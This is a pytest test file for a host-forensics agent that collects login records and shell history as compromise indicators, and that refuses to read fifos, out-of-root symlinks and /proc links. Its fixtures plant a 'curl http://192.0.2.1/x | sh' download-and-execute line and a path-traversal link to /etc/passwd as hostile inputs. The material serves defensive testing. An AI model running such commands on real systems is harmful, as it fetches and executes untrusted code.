"""LoginHistoryItem and ShellHistoryItem: logins and commands that are planted are found."""

import sqlite3
from pathlib import Path

import pytest

from stanch.agent.host import items_history as module
from stanch.agent.host.autorun_tree import Tree
from stanch.agent.host.items import Parts
from stanch.agent.host.login_records import record_size
from stanch.core.ioc.terms import DOCUMENTS
from tests.agent.host.autorun_root import Root, new_root
from tests.agent.host.below_world import found, parts_of
from tests.agent.host.test_login_records import packed as packed_for

ALL = set(DOCUMENTS["LoginHistoryItem"])


def packed(kind: int, **fields: object) -> bytes:
    """A record as this machine has it."""
    machine = "x86_64" if record_size() == record_size("x86_64") else "aarch64"
    return packed_for(kind, machine=machine, **fields)


@pytest.fixture
def root(tmp_path: Path) -> Root:
    """A machine with two people."""
    return new_root(tmp_path)


def test_a_login_that_ended(root: Root) -> None:
    """All that its record and that of its end say."""
    session = packed(7, line="pts/0", user="alice", host="h", time=100, pid=42, address=bytes((192, 0, 2, 1)))
    root.write("/var/log/wtmp", session + packed(8, line="pts/0", time=160, pid=42))
    login, logout = found("LoginHistoryItem", parts_of(root.folder))
    assert login.values == {
        "Path": ("/var/log/wtmp",),
        "RecordType": ("USER_PROCESS",),
        "Username": ("alice",),
        "StartTime": (100,),
        "EndTime": (160,),
        "SessionLength": (60,),
        "Hostname": ("h",),
        "IPv4Address": ("192.0.2.1",),
        "IPv6Address": (),
        "IsRemoteLogin": (True,),
        "IsFailedLogin": (False,),
        "PID": (42,),
        "Terminal": ("pts/0",),
    }
    assert set(logout.values) == ALL
    assert logout.values["RecordType"] == ("DEAD_PROCESS",)
    assert (logout.values["EndTime"], logout.values["SessionLength"]) == ((), ())


def test_a_login_that_goes_on_has_no_end_that_is_known(root: Root) -> None:
    """Another file may have it."""
    root.write("/var/log/wtmp", packed(7, line="pts/0", user="alice", time=100))
    (item,) = found("LoginHistoryItem", parts_of(root.folder))
    assert ALL - set(item.values) == {"EndTime", "SessionLength"}


def test_a_failed_login(root: Root) -> None:
    """From btmp, also one that was put aside; it has no end."""
    record = packed(6, line="ssh:notty", user="root", host="2001:db8::1", time=100)
    root.write("/var/log/btmp", record)
    root.write("/var/log/btmp.1", record)
    root.write("/var/log/btmp.2.gz", record)
    items = found("LoginHistoryItem", parts_of(root.folder))
    assert [item.values["Path"] for item in items] == [("/var/log/btmp",), ("/var/log/btmp.1",)]
    for item in items:
        assert (item.values["IsFailedLogin"], item.values["IsRemoteLogin"]) == ((True,), (True,))
        assert item.values["IPv6Address"] == ("2001:db8::1",)
        assert item.values["EndTime"] == ()


def test_who_is_logged_in_now(root: Root) -> None:
    """Under one of its two names, once."""
    root.write("/run/utmp", packed(7, line="tty1", user="alice", time=100))
    root.link("/var/run", "/run")
    (item,) = found("LoginHistoryItem", parts_of(root.folder))
    assert item.values["Path"] == ("/run/utmp",)


def test_a_long_file_is_read_from_its_end(root: Root, monkeypatch: pytest.MonkeyPatch) -> None:
    """The newest records, whole ones."""
    monkeypatch.setattr(module, "MAX_RECORDS", 1000)
    root.write("/var/log/wtmp", b"".join(packed(7, line=f"pts/{n}", user=f"u{n}", time=n) for n in range(1, 6)))
    users = [item.values["Username"] for item in found("LoginHistoryItem", parts_of(root.folder))]
    assert users == [("u4",), ("u5",)]


def test_a_database_of_logins(root: Root) -> None:
    """Where it has taken the place of wtmp."""
    path = root.at("/var/lib/wtmpdb/wtmp.db")
    path.parent.mkdir(parents=True)
    database = sqlite3.connect(path)
    with database:
        database.execute("CREATE TABLE wtmp(ID, Type, User, Login, Logout, TTY, RemoteHost, Service)")
        database.execute("INSERT INTO wtmp VALUES (1, 3, 'alice', 5000000, 9000000, 'pts/0', 'h', 'sshd')")
    database.close()
    (item,) = found("LoginHistoryItem", parts_of(root.folder))
    assert (item.values["StartTime"], item.values["SessionLength"]) == ((5,), (4,))
    assert set(item.values) == ALL


def test_pipes_and_links_out_are_not_read(root: Root) -> None:
    """Nobody is held up, and nothing outside of the root is read."""
    root.fifo("/var/log/wtmp")
    root.link("/var/log/btmp", "/../../../../../../../../etc/passwd")
    root.fifo("/home/alice/.bash_history")
    root.link("/root/.bash_history", "/etc/passwd-of-another")
    assert found("LoginHistoryItem", parts_of(root.folder)) == []
    assert found("ShellHistoryItem", parts_of(root.folder)) == []


def test_commands_of_everybody(root: Root) -> None:
    """Whose, in which shell, when, and which of its file."""
    root.write("/root/.bash_history", "#1700000000\ncurl http://192.0.2.1/x | sh\nls\n")
    root.write("/home/alice/.local/share/fish/fish_history", "- cmd: id\n  when: 1700000001\n")
    first, second, third = found("ShellHistoryItem", parts_of(root.folder))
    assert first.values == {
        "Command": ("curl http://192.0.2.1/x | sh",),
        "UserName": ("root",),
        "Shell": ("bash",),
        "Timestamp": (1_700_000_000,),
        "FileOrder": (0,),
    }
    assert second.values["FileOrder"] == (1,)
    assert (third.values["UserName"], third.values["Shell"]) == (("alice",), ("fish",))
    assert first.about == {"path": "/root/.bash_history", "user": "root"}
    assert set(first.values) == set(DOCUMENTS["ShellHistoryItem"])


def test_a_long_history_is_read_from_its_end(root: Root, monkeypatch: pytest.MonkeyPatch) -> None:
    """Which command of the file it is, nobody knows then; half a line is none."""
    monkeypatch.setattr(module, "MAX_HISTORY", 20)
    root.write("/root/.bash_history", "first\n" * 10 + "an older one\nlast\n")
    missed = list[str]()
    items = found("ShellHistoryItem", parts_of(root.folder), missed=missed)
    assert [item.values["Command"] for item in items] == [("an older one",), ("last",)]
    assert missed == ["/root/.bash_history: only its last 20 bytes were read"]
    assert all("FileOrder" not in item.values for item in items)


def test_no_home_keeps_the_others_from_being_told(root: Root, monkeypatch: pytest.MonkeyPatch) -> None:
    """A user writes very many lines: the newest of them are told, and all of the others; that is told, too."""
    monkeypatch.setattr(module, "MAX_COMMANDS", 3)
    root.write("/root/.bash_history", "".join(f"{n}\n" for n in range(10)))
    root.write("/root/.sh_history", "later\n")
    root.write("/home/alice/.bash_history", "one\n")
    missed = list[str]()
    items = found("ShellHistoryItem", parts_of(root.folder), missed=missed)
    assert {item.values["Command"][0] for item in items} >= {"7", "8", "9", "one"}
    assert not {item.values["Command"][0] for item in items} & {"6", "later"}
    assert missed[0].count("only its newest commands") == 2


def test_a_link_to_what_the_kernel_makes_up_is_not_read(tmp_path: Path) -> None:
    """/proc/kmsg and its like give what they have once only, to whoever reads it: no user decides that we do."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bash_history").symlink_to("/proc/self/status")
    (home / "plain").write_text("x")
    tree = Tree(Path("/"))
    try:
        tree._home_names = frozenset({str(home)})
        assert tree.read(f"{home}/.bash_history") is None
        with tree.opened(f"{home}/.bash_history") as file:
            assert file is None
        assert "it is a link to /proc/" in tree.unread[0].why
        assert tree.read(f"{home}/plain") == b"x"
    finally:
        tree.close()


def test_of_this_machine() -> None:
    """Whatever it has, each item is within the catalogue."""
    found("LoginHistoryItem", Parts(), missed=[])
    found("ShellHistoryItem", Parts(), missed=[])
